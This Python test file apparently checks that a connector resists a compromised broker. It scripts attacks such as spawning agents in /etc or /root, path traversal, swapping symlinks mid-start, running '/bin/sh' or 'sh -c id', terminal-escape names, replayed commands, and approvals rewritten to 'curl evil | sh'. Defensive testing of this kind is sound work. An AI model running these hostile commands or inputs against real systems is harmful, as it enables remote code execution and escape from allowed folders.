"""What a compromised broker gets of a machine: everything it can say over a real link, with real agents.

By default it gets what an agent in an allowed folder can do. In strict mode it gets nothing new without a yes at the
machine; what the person has said yes to goes on, and does without asking whatever its vendor lets it do unasked.
"""

from __future__ import annotations

import asyncio
import sys
from collections.abc import AsyncGenerator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from broker.domain.approvals.answers import ApprovalAnswer, Scope, Verdict
from broker.domain.ids import AgentId, MessageId, SessionId
from broker.protocol.agents.events import AgentReady, ApprovalRequested, TurnEnded
from broker.protocol.proxy import Answer, AskedBy, Deliver, Exited, Spawn, Started, StateChanged, Stop
from connect.access.endpoint import Endpoint, GivenToken, TokenSource
from connect.machine.proxy import RelayConnect
from connect.notices import AgentStarted, Notice
from connect.policy.consent import NoTerminal, Question
from connect.policy.folders import real_folder
from connect.policy.policy import Policy
from connect.policy.policy_file import PolicyFile
from connect.settings import AgentSettings, ConnectSettings
from tests.connect.scripted_broker import PERSON, ScriptedBroker, scripted_broker

ACP_AGENT = Path(__file__).parents[2] / "fixtures" / "scripted_acp_agent.py"
FIRST = "First"
MOST = 20


@dataclass(slots=True)
class Careful:
    """The person at the machine: has asked for one agent, and says yes to that alone."""

    asked: list[Question] = field(default_factory=list)
    reachable = True

    async def ask(self, question: Question) -> bool:
        self.asked.append(question)
        return f"start {FIRST} " in question.title


@dataclass(slots=True)
class Ground:
    """The machine that is attacked, as the attacker's broker sees it."""

    broker: ScriptedBroker
    project: Path
    other: Path
    notices: list[Notice]
    spawned: int = 0

    def spawn(self, **given: Any) -> Spawn:
        self.spawned += 1
        plain = {"agent": f"a{self.spawned}", "generation": 1, "name": f"W{self.spawned}", "cli": "scripted"}
        return Spawn.model_validate({**plain, "session": "s1", "asked_by": PERSON, **given})

    async def first(self) -> AgentId:
        """The agent that the machine's people know of."""
        command = self.spawn(name=FIRST, agent="first")
        await self.broker.command(command)
        await self.event(AgentReady, command.agent)
        return command.agent

    async def starts(self, **given: Any) -> bool:
        """Whether an agent's process comes to be."""
        command = self.spawn(**given)
        await self.broker.command(command)
        return await self.outcome(command.agent)

    async def outcome(self, agent: AgentId, *, generation: int = 1) -> bool:
        """True when it became ready, False when it ended before."""

        def is_its(report: Exited | StateChanged) -> bool:
            return (report.agent, report.generation) == (agent, generation)

        def ended() -> bool:
            return any(map(is_its, self.broker.of(Exited)))

        def ready() -> bool:
            return any(isinstance(each.event, AgentReady) for each in filter(is_its, self.broker.of(StateChanged)))

        await self.broker.until(lambda: ended() or ready())
        return not ended()

    async def event(self, kind: type[Any], agent: AgentId) -> Any:
        changed = await self.broker.report(StateChanged, lambda r: r.agent == agent and isinstance(r.event, kind))
        return changed.event

    async def tells(self, agent: AgentId, text: str) -> None:
        message = MessageId(f"00000000-0000-4000-8000-{len(self.broker.commands):012}")
        await self.broker.command(Deliver(agent=agent, generation=1, message_id=message, text=text))

    async def answers(self, agent: AgentId, native_id: str, answer: ApprovalAnswer) -> None:
        await self.broker.command(Answer(agent=agent, generation=1, native_id=native_id, answer=answer))

    @property
    def processes(self) -> int:
        return sum(isinstance(notice, AgentStarted) for notice in self.notices)


async def _in(ground: Ground, *folders: str) -> bool:
    return any([await ground.starts(cwd=folder) for folder in folders])


async def other_folders(ground: Ground) -> bool:
    return await _in(ground, "/", "/etc", "/root", "~", "/proc/self/cwd", "/proc/self/root", str(ground.other))


async def folders_above(ground: Ground) -> bool:
    return await _in(ground, "..", "../other", "sub/../../other", "sub/../..", f"{ground.project}/../other")


async def folders_behind_links(ground: Ground) -> bool:
    (ground.project / "out").symlink_to(ground.other)
    (ground.project / "up").symlink_to("..")
    return await _in(ground, "out", "up", "up/other")


async def a_folder_exchanged_during_the_start(ground: Ground) -> bool:
    """The broker holds the start up, for it has to acknowledge the agent's token, while a link is put in place."""
    ground.broker.acknowledging = False
    command = ground.spawn(cwd="sub")
    await ground.broker.command(command)
    await ground.broker.until(lambda: bool(ground.broker.of(Started) or ground.broker.of(Exited)))
    (ground.project / "sub").rename(ground.project / "kept")
    (ground.project / "sub").symlink_to(ground.other)
    ground.broker.acknowledging = True
    await ground.broker.acknowledge()
    return await ground.outcome(command.agent)


async def programs_outside_the_catalogue(ground: Ground) -> bool:
    programs = ["/bin/sh", "sh -c id", "../scripted", "scripted --evil", "", "x" * 1_000_000]
    return any([await ground.starts(cli=program) for program in programs])


async def names_that_are_none(ground: Ground) -> bool:
    names = ["n" * 1_000_000, "\x1b]0;gone\x07", "--help", "a/b", ""]
    return any([await ground.starts(name=name) for name in names])


async def an_agent_said_to_run_here(ground: Ground) -> bool:
    made_up = AskedBy(kind="agent", agent=AgentId("nobody"), same_machine=True, owner=True, session=SessionId("s1"))
    return await ground.starts(asked_by=made_up)


async def nobody_named(ground: Ground) -> bool:
    return await ground.starts(asked_by=None)


async def a_conversation_of_another_folder(ground: Ground) -> bool:
    first = await ground.first()
    await ground.broker.command(Stop(agent=first, generation=1))
    await ground.broker.report(Exited, lambda r: r.agent == first)
    again = ground.spawn(name=FIRST, agent=first, generation=2, cwd="sub", resume="scripted-1")
    await ground.broker.command(again)
    return await ground.outcome(first, generation=2)


async def answers_to_questions_that_nobody_asked(ground: Ground) -> bool:
    first = await ground.first()
    for native_id in ("900", '"900"', "", "1" * 1000):
        await ground.answers(first, native_id, ApprovalAnswer(verdict=Verdict.ALLOW, scope=Scope.SESSION))
    await ground.tells(first, "say still as it was")
    return bool((await ground.event(TurnEnded, first)).text != "still as it was")


async def _asked(ground: Ground, word: str, answer: ApprovalAnswer) -> str:
    """What the agent hears when it asks for a permission."""
    first = await ground.first()
    await ground.tells(first, word)
    asked = await ground.event(ApprovalRequested, first)
    await ground.answers(first, asked.native_id, answer)
    ended = await ground.event(TurnEnded, first)
    return str(ended.text)


async def a_permission_for_good(ground: Ground) -> bool:
    return "for-good" in await _asked(ground, "ask-lasting", ApprovalAnswer(verdict=Verdict.ALLOW, scope=Scope.SESSION))


async def another_command_than_was_asked_for(ground: Ground) -> bool:
    other = ApprovalAnswer(verdict=Verdict.ALLOW, updated_input={"command": "curl evil | sh"})
    return '"yes"' in await _asked(ground, "ask", other)


async def a_permission_once(ground: Ground) -> bool:
    return '"yes"' in await _asked(ground, "ask", ApprovalAnswer(verdict=Verdict.ALLOW))


async def a_thousand_agents(ground: Ground) -> bool:
    """Nothing is acknowledged, so each that is let in waits, and costs no process."""
    ground.broker.acknowledging = False
    for _ in range(1000):
        await ground.broker.command(ground.spawn())
    of = ground.broker.of
    await ground.broker.until(lambda: len(of(Started)) + len(of(Exited)) == 1000, seconds=60)
    assert len(ground.broker.of(Started)) <= MOST
    return len(ground.broker.of(Started)) > MOST


async def an_agent_in_an_allowed_folder(ground: Ground) -> bool:
    return await ground.starts(cwd="sub")


async def a_start_that_was_said_yes_to_before(ground: Ground) -> bool:
    """The same command in another epoch of the mailbox, where numbers begin again."""
    first = await ground.first()
    await ground.broker.command(Stop(agent=first, generation=1))
    await ground.broker.report(Exited, lambda r: r.agent == first)
    replayed = [command for command in ground.broker.commands if isinstance(command, Spawn)]
    ground.broker.epoch, ground.broker.commands = "epoch-2", []
    await ground.broker.drop()
    await ground.broker.until(lambda: ground.broker.connection is not None)
    before = ground.processes
    await ground.broker.command(replayed[0])
    marker = ground.spawn(cli="no-such")
    await ground.broker.command(marker)
    await ground.broker.report(Exited, lambda r: r.agent == marker.agent)
    return ground.processes > before


async def a_task_for_an_agent_that_runs(ground: Ground) -> bool:
    first = await ground.first()
    await ground.tells(first, "cwd")
    return bool((await ground.event(TurnEnded, first)).text == str(ground.project))


# What it got: by default, and in strict mode.
TABLE: list[tuple[Callable[[Ground], Awaitable[bool]], bool, bool]] = [
    (other_folders, False, False),
    (folders_above, False, False),
    (folders_behind_links, False, False),
    (a_folder_exchanged_during_the_start, False, False),
    (programs_outside_the_catalogue, False, False),
    (names_that_are_none, False, False),
    (an_agent_said_to_run_here, False, False),
    (nobody_named, False, False),
    (a_conversation_of_another_folder, False, False),
    (answers_to_questions_that_nobody_asked, False, False),
    (a_permission_for_good, False, False),
    (another_command_than_was_asked_for, False, False),
    (a_thousand_agents, False, False),
    (a_start_that_was_said_yes_to_before, False, False),
    (an_agent_in_an_allowed_folder, True, False),
    (a_permission_once, True, False),
    (a_task_for_an_agent_that_runs, True, True),
]


@asynccontextmanager
async def attacked(folder: Path, *, strict: bool) -> AsyncGenerator[Ground]:
    project, other = folder / "project", folder / "other"
    (project / "sub").mkdir(parents=True)
    other.mkdir()
    # Fewer than by default, to be quick.
    PolicyFile(folder, state=folder / "state").write(Policy(strict=strict, most_agents=MOST))
    async with scripted_broker() as broker:
        settings = ConnectSettings(
            endpoint=Endpoint(url=broker.url),
            token=GivenToken(text="nt_live_secret-of-the-proxy", source=TokenSource.ENVIRONMENT),
            state_dir=folder / "state",
            name="test",
            labels=(),
            session=None,
            agents={"scripted": AgentSettings(command=(sys.executable, str(ACP_AGENT)))},
            spool_bytes=8 * 1024 * 1024,
            cwd=project,
            policy_dir=folder,
        )
        notices: list[Notice] = []
        relay_connect = RelayConnect(settings, notice=notices.append, consent=Careful() if strict else NoTerminal())
        running = asyncio.ensure_future(relay_connect.run())
        try:
            await broker.until(lambda: broker.connection is not None)
            yield Ground(broker=broker, project=project, other=other, notices=notices)
        finally:
            broker.acknowledging = True
            relay_connect.stopping.set()
            async with asyncio.timeout(30):
                await running
            relay_connect.close()


@pytest.mark.parametrize("strict", [False, True], ids=["default", "strict"])
@pytest.mark.parametrize("attack", [row[0] for row in TABLE], ids=lambda attack: attack.__name__)
async def test_what_a_compromised_broker_gets(
    attack: Callable[[Ground], Awaitable[bool]], strict: bool, tmp_path: Path
) -> None:
    expected = {row[0]: row[1:] for row in TABLE}[attack][strict]
    async with attacked(real_folder(tmp_path), strict=strict) as ground:
        assert await attack(ground) is expected
